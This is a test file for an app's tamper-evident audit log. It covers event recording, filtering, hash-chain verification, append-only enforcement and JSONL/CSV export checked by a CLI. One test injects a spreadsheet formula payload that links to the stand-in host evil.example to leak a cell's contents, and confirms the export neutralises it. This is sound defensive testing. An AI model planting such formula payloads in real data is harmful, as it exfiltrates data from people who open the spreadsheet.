import { execFileSync, spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TestApp, startTestApp } from '../support/harness.ts';

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp({ seed: false });
});
afterAll(async () => t.close());

const cli = (args: string[]) =>
  spawnSync(process.execPath, ['--import', 'tsx', 'server/cli/main.ts', ...args], {
    encoding: 'utf8',
    env: { ...process.env, TOOLGATE_DB: t.dbTarget },
  });
const lastSeq = async () => (await t.request('GET', '/v1/audit?limit=1000')).json.items.at(-1)?.seq ?? 0;

describe('audit log', () => {
  it('writes exactly one event per successful change, with actor, reason and request id', async () => {
    const before = await lastSeq();
    const r = await t.request('POST', '/v1/groups', { body: { name: 'ops', reason: 'ops team needs it' }, headers: { 'x-request-id': 'req-42' } });
    expect(r.status).toBe(201);
    const events = (await t.request('GET', `/v1/audit?cursor=${before}`)).json.items;
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      seq: before + 1,
      actor: 'token:bootstrap-admin',
      action: 'create',
      entityType: 'group',
      entityId: 'ops',
      tenant: null,
      before: null,
      after: { name: 'ops', includes: [] },
      reason: 'ops team needs it',
      requestId: 'req-42',
    });
    expect(events[0].prevHash).toMatch(/^[0-9a-f]{64}$/);
  });

  it('takes the reason from the Toolgate-Reason header and records before and after', async () => {
    const r = await t.request('PATCH', '/v1/groups/ops', { body: { description: 'Operations' }, headers: { 'if-match': '"1"', 'toolgate-reason': 'clarify' } });
    expect(r.status).toBe(200);
    const [e] = (await t.request('GET', '/v1/audit?entityType=group&entityId=ops&action=update')).json.items;
    expect(e).toMatchObject({ reason: 'clarify', before: { description: '' }, after: { description: 'Operations' } });
  });

  it('writes nothing for a rejected change', async () => {
    const before = await lastSeq();
    await t.request('POST', '/v1/groups', { body: { name: 'ops' } });
    await t.request('POST', '/v1/groups', { body: { name: 'x', includes: ['missing'] } });
    await t.request('PUT', '/v1/groups/ops', { body: { name: 'ops' }, headers: { 'if-match': '"1"' } });
    expect(await lastSeq()).toBe(before);
  });

  it('filters by tenant, actor, entity, action and time range, and pages with a cursor', async () => {
    await t.request('POST', '/v1/tenants', { body: { id: 'alpha', name: 'Alpha' } });
    await t.request('POST', '/v1/tenants', { body: { id: 'beta', name: 'Beta' } });
    const viewerToken = await t.tokenFor('admin');
    await t.request('PATCH', '/v1/tenants/beta', { token: viewerToken, body: { name: 'Beta 2' }, headers: { 'if-match': '"1"' } });
    const byTenant = (await t.request('GET', '/v1/audit?tenant=beta')).json.items;
    expect(byTenant.map((e: { action: string }) => e.action)).toEqual(['create', 'update']);
    const who = byTenant[1].actor;
    expect(who).not.toBe('token:bootstrap-admin');
    expect((await t.request('GET', `/v1/audit?actor=${encodeURIComponent(who)}&entityType=tenant`)).json.items).toHaveLength(1);
    const all = (await t.request('GET', '/v1/audit')).json.items as { at: string; seq: number }[];
    const future = (await t.request('GET', `/v1/audit?from=2999-01-01T00:00:00Z`)).json.items;
    expect(future).toEqual([]);
    const upTo = (await t.request('GET', `/v1/audit?to=${encodeURIComponent(all[0].at)}`)).json.items;
    expect(upTo).toEqual([]);
    const page1 = await t.request('GET', '/v1/audit?limit=2');
    expect(page1.json.items).toHaveLength(2);
    const page2 = await t.request('GET', `/v1/audit?limit=2&cursor=${page1.json.nextCursor}`);
    expect(page2.json.items[0].seq).toBe(page1.json.items[1].seq + 1);
  });

  it('rejects bad filters with pointers', async () => {
    const r = await t.request('GET', '/v1/audit?from=yesterday&limit=0&action=explode&bogus=1');
    expect(r.status).toBe(400);
    expect(r.json.errors.map((e: { pointer: string }) => e.pointer)).toEqual(expect.arrayContaining(['/from', '/limit', '/action', '/bogus']));
  });

  it('verifies the chain through the API', async () => {
    const r = await t.request('GET', '/v1/audit/verify');
    expect(r.json).toMatchObject({ ok: true, count: await lastSeq() });
  });

  it('refuses UPDATE and DELETE at the database level', async () => {
    const db = t.deps.database.db;
    await expect(sql`UPDATE audit_events SET reason = 'forged' WHERE seq = 1`.execute(db)).rejects.toThrow(/append-only/);
    await expect(sql`DELETE FROM audit_events WHERE seq = 1`.execute(db)).rejects.toThrow(/append-only/);
    expect((await t.request('GET', '/v1/audit/verify')).json.ok).toBe(true);
  });

  it('exports JSONL that verifies, and names the first broken link when one byte is edited', async () => {
    const r = await t.request('GET', '/v1/audit/export?format=jsonl');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toContain('application/x-ndjson');
    const lines = r.text.trim().split('\n');
    expect(lines).toHaveLength(await lastSeq());
    const file = join(t.dir, 'audit.jsonl');
    writeFileSync(file, r.text);
    const ok = cli(['audit', 'verify', file]);
    expect(ok.status).toBe(0);
    expect(ok.stdout).toContain(`ok: ${lines.length} events`);

    // One byte: the last digit of event 3's timestamp.
    const target = lines[2];
    const at = target.indexOf('"at":"') + '"at":"2026-01-01T00:00:00.00'.length;
    const edited = target.slice(0, at) + (target[at] === '1' ? '2' : '1') + target.slice(at + 1);
    expect(edited.length).toBe(target.length);
    expect(edited).not.toBe(target);
    writeFileSync(file, `${[...lines.slice(0, 2), edited, ...lines.slice(3)].join('\n')}\n`);
    const bad = cli(['audit', 'verify', file]);
    expect(bad.status).toBe(1);
    expect(bad.stdout).toContain('BROKEN at seq 3');
    expect(bad.stdout).toContain('line 3');
  });

  it('verifies the database chain from the CLI when no file is named', async () => {
    const out = cli(['audit', 'verify']);
    expect(out.status).toBe(0);
    expect(out.stdout).toMatch(/^ok: \d+ events, chain intact/);
  });

  it('names a removed event as a gap', async () => {
    const r = await t.request('GET', '/v1/audit/export?format=jsonl');
    const lines = r.text.trim().split('\n');
    const file = join(t.dir, 'gap.jsonl');
    writeFileSync(file, [...lines.slice(0, 1), ...lines.slice(2)].join('\n'));
    const out = cli(['audit', 'verify', file]);
    expect(out.status).toBe(1);
    expect(out.stdout).toContain('BROKEN at seq 3');
    expect(out.stdout).toMatch(/missing or reordered/);
  });

  it('exports CSV that verifies, and fails on one edited byte', async () => {
    const r = await t.request('GET', '/v1/audit/export?format=csv');
    expect(r.headers.get('content-type')).toContain('text/csv');
    expect(r.text.split('\r\n')[0]).toBe('seq,at,actor,action,entityType,entityId,tenant,before,after,reason,requestId,prevHash,hash,actorEmail,actorName');
    const file = join(t.dir, 'audit.csv');
    writeFileSync(file, r.text);
    expect(cli(['audit', 'verify', file]).status).toBe(0);
    writeFileSync(file, r.text.replace('Operations', 'Operationz'));
    const bad = cli(['audit', 'verify', file]);
    expect(bad.status).toBe(1);
    expect(bad.stdout).toMatch(/BROKEN at seq \d+/);
  });

  it('exports from the CLI the same events the API exports', async () => {
    const api = (await t.request('GET', '/v1/audit/export?format=jsonl')).text;
    const out = execFileSync(process.execPath, ['--import', 'tsx', 'server/cli/main.ts', 'audit', 'export'], {
      encoding: 'utf8',
      env: { ...process.env, TOOLGATE_DB: t.dbTarget },
    });
    expect(out).toBe(api);
  });
});

describe('audit order', () => {
  it('pages newest first with order=desc, the cursor continuing downwards', async () => {
    const all = (await t.request('GET', '/v1/audit?limit=1000')).json.items.map((e: { seq: number }) => e.seq);
    const p1 = await t.request('GET', '/v1/audit?order=desc&limit=3');
    expect(p1.json.items.map((e: { seq: number }) => e.seq)).toEqual(all.slice(-3).reverse());
    const p2 = await t.request('GET', `/v1/audit?order=desc&limit=3&cursor=${p1.json.nextCursor}`);
    expect(p2.json.items.map((e: { seq: number }) => e.seq)).toEqual(all.slice(-6, -3).reverse());
  });
});

describe('CSV export and spreadsheets', () => {
  it('defuses cells a spreadsheet would run as formulas, and the export still verifies', async () => {
    const r = await t.request('POST', '/v1/groups', {
      body: { name: 'formula-probe' },
      headers: { 'toolgate-reason': '=HYPERLINK("https://evil.example/?"&B2,"details")' },
    });
    expect(r.status).toBe(201);
    const csv = (await t.request('GET', '/v1/audit/export?format=csv')).text;
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""details"")"`);
    expect(csv).not.toMatch(/,"=HYPERLINK/);
    const file = join(t.dir, 'formula.csv');
    writeFileSync(file, csv);
    expect(cli(['audit', 'verify', file]).status).toBe(0);
  });
});
